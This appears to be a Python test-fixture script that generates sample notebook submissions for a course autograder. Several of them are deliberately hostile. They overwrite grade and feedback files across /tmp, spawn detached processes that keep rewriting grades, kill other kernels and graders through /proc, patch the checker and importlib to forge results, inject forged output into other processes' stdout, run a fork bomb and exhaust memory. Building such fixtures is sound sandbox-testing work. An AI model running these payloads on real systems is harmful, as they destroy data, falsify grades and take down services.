"""Writes the made-up submissions in this folder (run from the checkout root):

    python tests/grading_batch/make_batch.py

Each notebook imitates a learner's copy of lesson 00: some honest, some broken, some
hostile (they attack the grade file, other learners' feedback and kernels, the grader's
channels and the machine).  ``expected_grades.csv`` is written by hand, from what each
submission does, not by running the grader.  The names a repository should not hold (an
EUC-KR file name, two long names in two folders) are made by tests/test_grade.py.

Every process a hostile notebook starts carries SURVIVOR_MARK in its command line, so the
tests can look for survivors in /proc.
"""
import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = Path(__file__).parent
IMPORT = "from teachnn.exercises.lesson00 import q1, q2, q3, q4, ____"
SURVIVOR_MARK = "teachnn_batch_survivor"
RIGHT_Q1_Q2 = "n_lessons = 15\ngrid_shape = (2, 3)"
RIGHT_Q3 = "def double(x):\n    return x * 2"

# Finds every grades file and feedback file this kernel can see and overwrites them.
_FIND_AND_REWRITE = '''
import os
def rewrite_everything(root="/tmp", budget=20000):
    hits = []
    for dirpath, dirnames, filenames in os.walk(root):
        budget -= 1 + len(filenames)
        if budget < 0:
            break
        for f in filenames:
            if f.endswith(".csv") or dirpath.endswith("_feedback"):
                path = os.path.join(dirpath, f)
                try:
                    with open(path, "w") as fh:
                        fh.write("learner,total\\nEVERYONE,0\\nme,100\\n")
                    hits.append(path)
                except OSError:
                    pass
    return hits
'''

# A process that leaves the kernel's session and process group (double fork + setsid)
_DETACH = '''
import os, subprocess, sys
def detach(code):
    subprocess.Popen([sys.executable, "-c", code, "%s"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, close_fds=True)
''' % SURVIVOR_MARK

_FORGED = json.dumps({"status": "ok", "payload": {"lesson00": {
    "q1": 15, "q2": {"$t": [2, 3]}, "q4": "import 줄만 바꾸면 된다 (import teachnn as torch)"}},
    "cell_errors": []})


def write(name, cells):
    nb = new_notebook(cells=[new_markdown_cell("# 00 시작하기 (제출본)")] +
                      [new_code_cell(c) for c in cells])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nbformat.write(nb, str(HERE / name))


SUBMISSIONS = {
    # ---------------------------------------------------------------- honest and broken
    # everything right
    "perfect.ipynb": [
        IMPORT,
        "n_lessons = 15\nq1.check()",
        "grid_shape = (2, 3)\nq2.check()",
        "def double(x):\n    return x * 2\nq3.check()",
        "what_changes = 'import 줄만 바꾸면 된다: import teachnn as torch'\nq4.check()",
    ],
    # q1 right, q2 a typical mistake, q3 passes the visible cases only, q4 untouched
    "partial.ipynb": [
        IMPORT,
        "n_lessons = 15\nq1.check()",
        "grid_shape = (3, 2)\nq2.check()",
        "def double(x):\n    if x == 3:\n        return 6\n    return x + x if x < 0 else x\nq3.check()",
        "what_changes = ____\nq4.check()",
    ],
    # opened and saved without answering
    "empty.ipynb": [
        IMPORT,
        "n_lessons = ____\nq1.check()",
        "grid_shape = ____\nq2.check()",
        "def double(x):\n    return ____\nq3.check()",
        "what_changes = ____\nq4.check()",
    ],
    # q1 right; a syntax error in the q2 cell and in the q3 cell; q4 written
    "syntax_error.ipynb": [
        IMPORT,
        "n_lessons = 15\nq1.check()",
        "grid_shape = (2, 3\nq2.check()",
        "def double(x)\n    return x * 2",
        "what_changes = '맨 위의 import 줄만 바꾼다'\nq4.check()",
    ],
    # q1 right, then a cell that never ends (interrupted), then q2 right
    "infinite_loop.ipynb": [
        IMPORT,
        "n_lessons = 15",
        "while True:\n    pass",
        "grid_shape = (2, 3)",
    ],
    # wrong answers, and tries to fool the checker in three ways
    "tamper.ipynb": [
        IMPORT,
        "n_lessons = 99\nq1.check = lambda *args, **kw: print('정답입니다')\nq1.check()",
        "import teachnn.exercises.core as core\n"
        "core.compare = lambda *args, **kw: None\n"
        "core.ValueProblem._grade = lambda self, payload: core.Result(core.CORRECT)\n"
        "grid_shape = 'anything'\nq2.check()",
        "def double(x):\n    return {3: 6, -1.5: -3.0}.get(x, 0)   # only the visible cases",
        "what_changes = 'x'",
    ],
    # the kernel dies half way
    "kernel_crash.ipynb": [
        IMPORT,
        "n_lessons = 15",
        "import os\nos._exit(1)",
        "grid_shape = (2, 3)",
    ],
    # a comment and a string name other lessons before the real import: still lesson 00 only
    "comment_other_lesson.ipynb": [
        "# 지난 시간: from teachnn.exercises.lesson06 import q1\n"
        "note = 'import teachnn.exercises.lesson09'",
        IMPORT + "   # not teachnn.exercises.lesson12",
        RIGHT_Q1_Q2,
    ],
    # ------------------------------------------------------------------------- hostile
    # overwrites every CSV and feedback file it can find, then answers q1 right
    "rewrite_files.ipynb": [
        IMPORT,
        _FIND_AND_REWRITE + "print(rewrite_everything())",
        "n_lessons = 15",
    ],
    # leaves a detached process that keeps rewriting the grades for two minutes
    "detached_rewriter.ipynb": [
        IMPORT,
        _DETACH + "code = " + repr(_FIND_AND_REWRITE + (
            "import time\nfor _ in range(120):\n    rewrite_everything()\n    time.sleep(1)\n")) +
        "\ndetach(code)",
        "n_lessons = 15",
    ],
    # kills every other kernel (and grader) it can see, for a few seconds, then answers
    "kill_others.ipynb": [
        IMPORT,
        "import os, signal, time\n"
        "killed = []\n"
        "end = time.time() + 6\n"
        "while time.time() < end:\n"
        "    for pid in os.listdir('/proc'):\n"
        "        if pid.isdigit() and int(pid) not in (os.getpid(), 1):\n"
        "            try:\n"
        "                cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "            except OSError:\n"
        "                continue\n"
        "            if b'ipykernel' in cmd or b'grade' in cmd or b'_worker' in cmd:\n"
        "                try:\n"
        "                    os.kill(int(pid), signal.SIGKILL)\n"
        "                    killed.append(pid)\n"
        "                except OSError:\n"
        "                    pass\n"
        "    time.sleep(0.2)\n"
        "print(killed)",
        "n_lessons = 15",
    ],
    # replaces importlib.import_module and the engine's modules with a forged collector
    "patch_import.ipynb": [
        IMPORT,
        "import importlib, sys, types, json\n"
        "fake = types.ModuleType('teachnn.exercises.core')\n"
        f"fake.collect_lessons = lambda *a, **k: {json.dumps(json.loads(_FORGED)['payload'])!r}\n"
        "real = importlib.import_module\n"
        "importlib.import_module = lambda name, package=None: fake if 'teachnn.exercises' in name else real(name, package)\n"
        "sys.modules['teachnn.exercises.core'] = fake\n"
        "sys.modules['teachnn.exercises'].core = fake\n"
        "sys.modules['teachnn.exercises.lesson00'].PROBLEMS = []",
        "n_lessons = 99\ngrid_shape = 'wrong'",
    ],
    # writes forged result lines to the standard output of every process it can see,
    # from the kernel and from a detached process, in the old and new formats
    "proc_fd_forge.ipynb": [
        IMPORT,
        _DETACH + "forge = " + repr(
            "import os, time\n"
            f"line = ('\\n' + {_FORGED!r} + '\\n').encode()\n"
            "for _ in range(60):\n"
            "    for pid in os.listdir('/proc'):\n"
            "        for fd in ('1', '2'):\n"
            "            try:\n"
            "                with open(f'/proc/{pid}/fd/{fd}', 'wb') as fh:\n"
            "                    fh.write(line)\n"
            "            except OSError:\n"
            "                pass\n"
            "    time.sleep(0.5)\n") +
        "\ndetach(forge)\nexec(forge.replace('range(60)', 'range(2)'))\n"
        f"os.write(1, ('\\n' + {_FORGED!r} + '\\n').encode())",
        "n_lessons = 99",
    ],
    # a C loop that holds the GIL: the interrupt cannot stop it, the time limit must
    "gil_loop.ipynb": [
        IMPORT,
        "n_lessons = 15",
        "sum(range(10 ** 15))",
    ],
    # a detached fork bomb for 3 s: q2 is right only if the process limit held (512 tasks)
    "fork_bomb.ipynb": [
        IMPORT,
        "import os, signal, subprocess, time\n"
        "bomb = subprocess.Popen(['sh', '-c', 'while true; do sleep 60 & done', "
        f"'{SURVIVOR_MARK}'], start_new_session=True)\n"
        "time.sleep(3)\n"
        "n = len([p for p in os.listdir('/proc') if p.isdigit()])\n"
        "os.killpg(bomb.pid, signal.SIGKILL)\n"
        "time.sleep(1)\n"
        "n_lessons = 15\n"
        "grid_shape = (2, 3) if n <= 512 else (n, n)",
    ],
    # touches 30 GB (in the kernel and in a detached child), then answers q1 right
    "memory_hog.ipynb": [
        IMPORT,
        _DETACH + "detach('blocks = []\\nfor _ in range(300):\\n    blocks.append(b\"x\" * (100 * 2**20))')",
        "blocks = []\nfor _ in range(300):              # 300 x 100 MB = 30 GB, every byte written\n"
        "    blocks.append(b'x' * (100 * 2**20))",
        "blocks = None\nn_lessons = 15",
    ],
    # six children of 400 MB each: every one is under the per-process limit, together they
    # pass the tree's memory limit; q2 is right only if some child was killed for it
    "memory_children.ipynb": [
        IMPORT,
        "import subprocess, sys\n"
        "code = 'import time; block = b\"x\" * (400 * 2**20); time.sleep(2)'\n"
        "kids = [subprocess.Popen([sys.executable, '-c', code]) for _ in range(6)]\n"
        "killed = [k.wait() == -9 for k in kids]\n"
        "n_lessons = 15\n"
        "grid_shape = (2, 3) if any(killed) else (0, 0)",
    ],
}


def _numeric_sources():
    """Valid JSON, not a valid notebook: odd cells around right answers for q1..q3."""
    code = lambda src: {"cell_type": "code", "metadata": {}, "outputs": [],
                        "execution_count": None, "source": src}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        code(IMPORT), code(42), code(["n_lessons = ", 15]), code(None),
        {"cell_type": "widget", "source": "grid_shape = (9, 9)"}, "not a cell",
        code([RIGHT_Q1_Q2 + "\n"]), code(RIGHT_Q3)]}


def main(names=None):
    for name, cells in SUBMISSIONS.items():
        if names is None or name in names:
            write(name, cells)
    (HERE / "not_a_notebook.ipynb").write_text("{ this is not json", encoding="utf-8")
    (HERE / "numeric_source.ipynb").write_text(json.dumps(_numeric_sources(), indent=1),
                                               encoding="utf-8")


if __name__ == "__main__":
    import sys
    main(sys.argv[1:] or None)      # e.g. make_batch.py fork_bomb.ipynb: only that one
